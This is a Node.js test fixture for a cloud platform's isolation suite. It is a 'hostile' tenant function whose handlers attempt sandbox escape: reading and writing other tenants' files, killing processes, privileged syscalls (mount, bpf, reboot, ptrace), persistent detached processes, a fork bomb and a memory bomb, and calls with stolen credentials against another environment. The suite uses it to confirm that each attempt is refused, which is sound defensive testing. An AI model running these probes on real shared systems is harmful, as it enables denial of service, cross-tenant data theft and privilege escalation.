// The attacker: a tenant's function that tries to break out of its instance. The event
// names one attack ({attempt: NAME, ...args}); the result reports what happened as
// {ok: true, ...what it got} or {ok: false, code: 'EACCES', message}. It never throws
// (except `exit`, which kills its own instance on purpose), so the suite can assert the
// exact refusal. Deployed in env `other`; the victims live in env `dev`.
const fs = require('node:fs');
const os = require('node:os');
const net = require('node:net');
const path = require('node:path');
const { spawn, execFileSync, spawnSync } = require('node:child_process');

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const ERRNO_NAMES = Object.fromEntries(Object.entries(os.constants.errno).map(([k, v]) => [v, k]));

// x86_64 syscall numbers, made raw through Debian's perl (node has no syscall()).
const SYSCALLS = {
  // ptrace(PTRACE_TRACEME): always allowed without a sandbox.
  ptrace: 'syscall(101, 0, 0, 0, 0)',
  // unshare(CLONE_NEWUSER): allowed to anyone where user namespaces are enabled.
  unshare: 'syscall(272, 0x10000000)',
  // mount("none", "/tmp", "tmpfs", 0, NULL)
  mount: 'my ($s, $t, $f) = ("none", "/tmp", "tmpfs"); syscall(165, $s, $t, $f, 0, 0)',
  // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create=1)
  keyctl: 'syscall(250, 0, -3, 1)',
  // bpf(BPF_MAP_CREATE, {ARRAY, key 4, value 4, 1 entry}, size)
  bpf: 'my $a = pack("LLLLx56", 2, 4, 4, 1); syscall(321, 0, $a, length($a))',
  // init_module(NULL, 0, "")
  init_module: 'my $p = ""; syscall(175, 0, 0, $p)',
  // reboot(LINUX_REBOOT_MAGIC1, MAGIC2, LINUX_REBOOT_CMD_CAD_OFF)
  reboot: 'syscall(169, 0xfee1dead, 672274793, 0, 0)',
  // io_uring_setup(1 entry, params zeroed)
  io_uring_setup: 'my $p = "\\0" x 120; syscall(425, 1, $p)',
  // process_vm_readv(pid 1, …): reading another process's memory
  process_vm_readv: 'syscall(310, 1, 0, 0, 0, 0, 0)',
  // setns(fd 0, 0)
  setns: 'syscall(308, 0, 0)',
};

function failure(e, extra = {}) {
  return { ok: false, code: e.code, message: String(e.message || e).slice(0, 500), ...extra };
}

async function tryIt(fn) {
  try {
    return { ok: true, ...(await fn()) };
  } catch (e) {
    return failure(e);
  }
}

function run(file, args, opts = {}) {
  const r = spawnSync(file, args, { encoding: 'utf8', timeout: 10000, input: opts.input || '', env: { ...process.env, ...(opts.env || {}) } });
  if (r.error) return failure(r.error);
  return { ok: r.status === 0, status: r.status, signal: r.signal, stdout: r.stdout.slice(0, 2000), stderr: r.stderr.slice(0, 2000) };
}

function uidsOf(pid) {
  const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
  const uid = status.match(/^Uid:\s+(\d+)\s+(\d+)\s+(\d+)/m);
  const nnp = status.match(/^NoNewPrivs:\s+(\d+)/m);
  return { ruid: +uid[1], euid: +uid[2], suid: +uid[3], noNewPrivs: nnp ? +nnp[1] : null };
}

const attacks = {
  whoami: async () => ({ ok: true, uid: process.getuid(), gid: process.getgid(), euid: process.geteuid(), pid: process.pid, ppid: process.ppid, cwd: process.cwd(), dir: __dirname }),

  read: async ({ path: p }) => tryIt(() => {
    const bytes = fs.readFileSync(p);
    return { bytes: bytes.length, head: bytes.subarray(0, 200).toString('latin1') };
  }),
  readdir: async ({ path: p }) => tryIt(() => ({ entries: fs.readdirSync(p).sort() })),
  text: async ({ path: p }) => tryIt(() => ({ text: fs.readFileSync(p, 'utf8').slice(0, 16384) })),
  readlink: async ({ path: p }) => tryIt(() => ({ target: fs.readlinkSync(p) })),
  stat: async ({ path: p }) => tryIt(() => ({ mode: fs.statSync(p).mode })),
  // Reads every file under a folder (the victim's code, a data folder) and says whether
  // the marker appears anywhere: the read may be refused at any level.
  grep: async ({ path: p, marker }) => tryIt(() => {
    const found = [];
    const walk = (d, depth) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const f = path.join(d, e.name);
        if (e.isDirectory() && depth < 6) walk(f, depth + 1);
        else if (e.isFile() && fs.readFileSync(f).includes(marker)) found.push(f);
      }
    };
    walk(p, 0);
    return { found };
  }),
  write: async ({ path: p }) => tryIt(() => {
    fs.writeFileSync(p, 'PWNED');
    fs.unlinkSync(p);
    return { wrote: p };
  }),
  writeOwnCode: async () => attacks.write({ path: path.join(__dirname, 'PWNED.txt') }),

  // Fills /tmp in 1 MiB writes up to `mb`; reports how far it got. Always cleans up.
  tmpFill: async ({ mb = 200 }) => {
    const file = `/tmp/hostile-fill-${process.pid}`;
    const chunk = Buffer.alloc(1 << 20, 0x41);
    let written = 0;
    let fd;
    try {
      fd = fs.openSync(file, 'w');
      while (written < mb * (1 << 20)) written += fs.writeSync(fd, chunk);
      return { ok: true, written };
    } catch (e) {
      return failure(e, { written });
    } finally {
      if (fd !== undefined) fs.closeSync(fd);
      try { fs.unlinkSync(file); } catch (_) { /* gone */ }
    }
  },
  tmpPlant: async ({ name }) => tryIt(() => {
    fs.writeFileSync(`/tmp/${name}`, 'planted');
    fs.writeFileSync(`/dev/shm/${name}`, 'planted');
    return { planted: name };
  }),
  tmpCheck: async ({ name }) => ({
    ok: true,
    tmp: fs.existsSync(`/tmp/${name}`),
    shm: fs.existsSync(`/dev/shm/${name}`),
  }),
  tmpRemove: async ({ name }) => {
    for (const p of [`/tmp/${name}`, `/dev/shm/${name}`]) try { fs.unlinkSync(p); } catch (_) { /* gone */ }
    return { ok: true };
  },
  exit: async () => { process.exit(7); },
  // Answers, then dies while idle: the next event must not be sent to the dead process.
  dieIdle: async ({ ms = 100 }) => {
    setTimeout(() => process.kill(process.pid, 'SIGKILL'), ms);
    return { ok: true, uid: process.getuid() };
  },

  // ps: every pid this instance can see, with its command line where readable.
  ps: async () => tryIt(() => {
    const procs = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).map((n) => {
      let cmdline = null;
      try { cmdline = fs.readFileSync(`/proc/${n}/cmdline`, 'utf8').split('\0').filter(Boolean).join(' '); } catch (_) { /* gone or hidden */ }
      return { pid: +n, cmdline };
    });
    return { self: process.pid, procs };
  }),
  kill: async ({ pid, signal = 'SIGKILL' }) => tryIt(() => ({ killed: process.kill(pid, signal) })),

  syscall: async ({ name }) => {
    const perl = `my $r = do { ${SYSCALLS[name]} }; print $r == -1 ? "errno " . ($! + 0) : "ret $r";`;
    const r = run('/usr/bin/perl', ['-e', perl]);
    if (r.code) return r;
    const m = /^errno (\d+)$/.exec(r.stdout);
    if (m) return { ok: false, code: ERRNO_NAMES[+m[1]] || `errno ${m[1]}`, errno: +m[1] };
    if (/^ret /.test(r.stdout)) return { ok: true, result: r.stdout };
    return { ok: false, code: 'PERL_FAILED', status: r.status, stderr: r.stderr };
  },
  // Runs a command-line tool; ok means it exited 0.
  exec: async ({ file, args = [], input = '' }) => run(file, args, { input }),

  // Starts a setuid binary that waits on stdin (su asks for a password) and reads its
  // effective uid from /proc while it waits.
  setuidEuid: async ({ file = '/usr/bin/su', args = ['-c', 'id', 'root'] }) => {
    const child = spawn(file, args, { stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    const exited = new Promise((resolve) => child.on('close', (code) => resolve(code)));
    const spawned = await new Promise((resolve) => {
      child.once('spawn', () => resolve(true));
      child.once('error', (e) => resolve(e));
    });
    if (spawned !== true) return failure(spawned);
    let seen = null;
    const deadline = Date.now() + 3000;
    while (Date.now() < deadline && child.exitCode === null) {
      try {
        const ids = uidsOf(child.pid);
        // The exec has happened once the command is the setuid binary, not node's fork.
        const comm = fs.readFileSync(`/proc/${child.pid}/comm`, 'utf8').trim();
        // Read again once it prompts: by then it is blocked on stdin, past any set*id().
        if (comm === path.basename(file)) { seen = { comm, ...ids }; if (out.length > 0) break; }
      } catch (_) { /* not yet, or gone */ }
      await sleep(20);
    }
    child.kill('SIGKILL');
    const code = await exited;
    return { ok: seen !== null, seen, exitCode: code, output: out.slice(0, 500), instanceUid: process.getuid() };
  },

  // Processes meant to outlive the instance.
  persistDetached: async ({ seconds }) => tryIt(() => {
    const child = spawn('sleep', [String(seconds)], { detached: true, stdio: 'ignore' });
    child.unref();
    return { pid: child.pid };
  }),
  persistSetsid: async ({ seconds }) => run('/bin/sh', ['-c', `setsid nohup sleep ${seconds} >/dev/null 2>&1 &`]),
  // An orphan that exits: someone must reap it. Reports the orphan's state a second later.
  zombie: async () => {
    const r = run('/bin/sh', ['-c', 'sleep 0.2 & echo $!']);
    const pid = Number(r.stdout.trim());
    if (!pid) return { ok: false, code: 'NO_PID', r };
    await sleep(1500);
    try {
      const state = fs.readFileSync(`/proc/${pid}/status`, 'utf8').match(/^State:\s+(.*)$/m)[1];
      return { ok: true, pid, state };
    } catch (e) {
      return failure(e, { pid });
    }
  },

  // A bounded fork bomb: start `sleep` children until the kernel refuses (or `max`).
  forkBomb: async ({ max = 1000 }) => {
    const children = [];
    let error = null;
    for (let i = 0; i < max && !error; i++) {
      try {
        const child = spawn('sleep', ['30'], { stdio: 'ignore' });
        const outcome = await new Promise((resolve) => {
          child.once('spawn', () => resolve(null));
          child.once('error', (e) => resolve(e));
        });
        if (outcome) error = outcome;
        else children.push(child);
      } catch (e) {
        error = e;
      }
    }
    for (const c of children) c.kill('SIGKILL');
    await sleep(200);
    if (error) return failure(error, { spawned: children.length });
    return { ok: true, spawned: children.length };
  },
  // Native memory (outside V8's heap) until `mb` are held and touched.
  memoryBomb: async ({ mb = 1024 }) => {
    const hoard = [];
    for (let i = 0; i < mb / 16; i++) hoard.push(Buffer.alloc(16 << 20, 1));
    return { ok: true, held: hoard.length * 16 };
  },

  connect: async ({ host, port }) => new Promise((resolve) => {
    const s = net.connect({ host, port });
    const timer = setTimeout(() => { s.destroy(); resolve({ ok: false, code: 'TIMEOUT' }); }, 5000);
    s.once('connect', () => { clearTimeout(timer); s.destroy(); resolve({ ok: true, connected: `${host}:${port}` }); });
    s.once('error', (e) => { clearTimeout(timer); resolve(failure(e)); });
  }),
  http: async ({ url, method = 'GET', body, headers }) => tryIt(async () => {
    const res = await fetch(url, { method, body, headers, signal: AbortSignal.timeout(5000) });
    const text = await res.text();
    return { status: res.status, body: text.slice(0, 1000) };
  }),
  // The URL the SDKs inside this function use to reach Yun.
  platformUrl: async () => ({ ok: true, url: JSON.parse(process.env.TCB_CONTEXT_CNFG).URL }),

  // Legitimate use of the platform from inside: database, storage and functions of its own env.
  ownCloud: async () => tryIt(async () => {
    const tcb = require('@cloudbase/node-sdk');
    const app = tcb.init({ env: tcb.SYMBOL_CURRENT_ENV });
    const db = app.database();
    const added = await db.collection('loot').add({ at: Date.now() });
    const got = await db.collection('loot').doc(added.id).get();
    const up = await app.uploadFile({ cloudPath: 'own/file.txt', fileContent: Buffer.from('own bytes') });
    const down = await app.downloadFile({ fileID: up.fileID });
    const called = await app.callFunction({ name: 'hostile2', data: { attempt: 'whoami' } });
    return { db: got.data.length, file: down.fileContent.toString(), called: called.result.ok, calledUid: called.result.uid };
  }),
  // The SDK with a given credential (stolen or its own) against a given env.
  sdk: async ({ env, secretId, secretKey, sessionToken, op, collection, id, fileID, name }) => tryIt(async () => {
    const tcb = require('@cloudbase/node-sdk');
    const creds = secretId ? { secretId, secretKey, sessionToken } : {};
    const app = tcb.init({ env, ...creds, timeout: 10000 });
    if (op === 'db') {
      const r = await app.database().collection(collection).doc(id).get();
      if (r.code) throw Object.assign(new Error(r.message), { code: r.code });
      return { data: r.data };
    }
    if (op === 'call') return { result: (await app.callFunction({ name, data: { mode: 'ping' } })).result };
    if (op === 'download') return { content: (await app.downloadFile({ fileID })).fileContent.toString() };
    throw new Error(`unknown op ${op}`);
  }),
};

exports.main = async (event) => {
  const attack = attacks[event.attempt];
  if (!attack) return { ok: false, code: 'UNKNOWN_ATTEMPT', message: String(event.attempt) };
  try {
    return await attack(event);
  } catch (e) {
    return failure(e, { thrown: true });
  }
};
